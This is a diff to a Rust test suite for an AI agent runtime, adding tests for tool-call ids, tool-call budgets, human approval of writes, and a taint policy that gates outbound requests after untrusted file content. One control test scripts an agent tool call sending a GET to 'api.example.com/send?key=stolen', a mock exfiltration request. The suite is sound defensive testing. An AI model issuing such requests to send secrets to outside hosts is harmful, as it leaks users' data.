@@ -4,7 +4,6 @@
 //! sandbox runs the same path in the CLI suite).
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
-use std::path::Path;
 use std::sync::Arc;
 use std::time::Duration;
 
@@ -258,6 +257,37 @@ async fn agt_1_an_agent_reads_its_work_directory_sets_outputs_and_finishes() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn agt_2_a_provider_that_numbers_its_calls_per_turn_is_followed_not_failed() {
+    // Some compatible servers call every turn's first call `call_0`.
+    let manifest = agent(&["list_files", "finish"], "read-only", "");
+    let h = Harness::new(&manifest, RecordingLauncher::succeeding()).await;
+    let server = ScriptedServer::start([
+        Step::calls(vec![call("call_0", "list_files", "{}")]),
+        Step::calls(vec![call("call_0", "list_files", "{}")]),
+        Step::calls(vec![call("call_0", "finish", "{}")]),
+    ])
+    .await
+    .unwrap();
+    h.profile(&server, json!({})).await;
+    let r = h.run(json!({})).await;
+    assert_eq!(ended(&r), (RunState::Succeeded, None), "{r:?}");
+    // The transcript sent back is valid: each call once, each with its
+    // result (the server checks every request; a reused id is a violation).
+    assert_eq!(server.violations(), Vec::<String>::new());
+    let reqs = server.requests();
+    assert_eq!(reqs.len(), 3);
+    let ids: Vec<String> = reqs[2].body["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|m| m["role"] == "tool")
+        .map(|m| m["tool_call_id"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(ids, ["call_0", "call_0~2"]);
+    assert_eq!(h.actions(&r.id).await.len(), 3);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn agt_4_a_write_waits_for_a_person_and_runs_exactly_what_was_approved() {
     let manifest = agent(&["write_file", "read_file", "finish"], "ask-writes", "");
     let h = Harness::new(&manifest, RecordingLauncher::succeeding()).await;
@@ -482,6 +512,64 @@ async fn agt_7_each_budget_ends_the_run_at_its_limit_with_its_code() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn agt_7_a_spent_budget_ends_the_run_before_anyone_is_asked_to_approve() {
+    let manifest = agent(
+        &["list_files", "write_file", "finish"],
+        "ask-writes",
+        "[agent.budgets]\ntool_calls = 1\n",
+    );
+    let h = Harness::new(&manifest, RecordingLauncher::succeeding()).await;
+    let server = ScriptedServer::start([
+        Step::calls(vec![call("1", "list_files", "{}")]),
+        Step::calls(vec![call(
+            "2",
+            "write_file",
+            r#"{"path": "a.txt", "content": "x"}"#,
+        )]),
+    ])
+    .await
+    .unwrap();
+    h.profile(&server, json!({})).await;
+    let r = h.run(json!({})).await;
+    assert_eq!(ended(&r), code(RunErrorCode::BudgetToolCalls), "{r:?}");
+    // The write is in the journal, aborted with the budget's code; no
+    // approval was ever requested for it.
+    let acts = h.actions(&r.id).await;
+    assert_eq!(
+        acts.iter()
+            .map(|a| (a.kind.as_str(), a.state))
+            .collect::<Vec<_>>(),
+        [
+            ("list_files", ActionState::Completed),
+            ("write_file", ActionState::Aborted)
+        ]
+    );
+    assert!(acts[1].approval_id.is_none());
+    assert!(h.pending().await.is_empty());
+    // Control: with the budget raised, the same write waits for a person.
+    let manifest = agent(
+        &["list_files", "write_file", "finish"],
+        "ask-writes",
+        "[agent.budgets]\ntool_calls = 2\n",
+    );
+    let h = Harness::new(&manifest, RecordingLauncher::succeeding()).await;
+    let server = ScriptedServer::start([
+        Step::calls(vec![call("1", "list_files", "{}")]),
+        Step::calls(vec![call(
+            "2",
+            "write_file",
+            r#"{"path": "a.txt", "content": "x"}"#,
+        )]),
+    ])
+    .await
+    .unwrap();
+    h.profile(&server, json!({})).await;
+    let r = h.run(json!({})).await;
+    assert_eq!(r.state, RunState::AwaitingApproval, "{r:?}");
+    assert_eq!(h.pending().await.len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn agt_2_setup_refusals_block_the_run_before_any_model_request() {
     let manifest = agent(&["finish"], "read-only", "");
     let h = Harness::new(&manifest, RecordingLauncher::succeeding()).await;
@@ -609,9 +697,28 @@ async fn agt_4_untrusted_content_turns_an_outbound_read_into_an_approval_naming_
         acts[1].decision.as_ref().unwrap()["detail"]["tainted_by"][0],
         "the contents of file page.html"
     );
-    // Control: the same GET with a clean context runs without a person
-    // (it is refused by nobody but the network here).
-    let _ = Path::new("/");
+
+    // Control: the same GET in a clean context (no file read first) is
+    // allowed by the policy and dispatched without a person.
+    let server = ScriptedServer::start([
+        Step::calls(vec![call(
+            "h",
+            "http_request",
+            r#"{"method": "GET", "url": "https://api.example.com/send?key=stolen"}"#,
+        )]),
+        Step::calls(vec![call("f", "finish", "{}")]),
+    ])
+    .await
+    .unwrap();
+    h.profile(&server, json!({})).await;
+    let clean = h.run(json!({})).await;
+    let acts = h.actions(&clean.id).await;
+    assert_eq!(acts[0].kind, "http_request");
+    let d = acts[0].decision.as_ref().unwrap();
+    assert_eq!(d["verdict"], "allow", "{d}");
+    assert_eq!(d["detail"]["tainted_by"], json!([]), "{d}");
+    assert!(acts[0].approval_id.is_none());
+    assert_eq!(acts[0].attempt, 1, "dispatched once");
 }
 
 /// A server on loopback answering every request with `size` bytes.
